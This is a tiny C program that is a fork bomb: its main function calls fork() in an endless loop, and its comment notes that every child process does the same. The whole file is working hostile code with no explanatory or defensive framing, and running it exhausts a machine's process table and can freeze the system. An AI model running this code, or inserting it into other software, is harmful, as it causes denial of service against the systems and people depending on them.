/* Forks without end, and each child does as well. */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
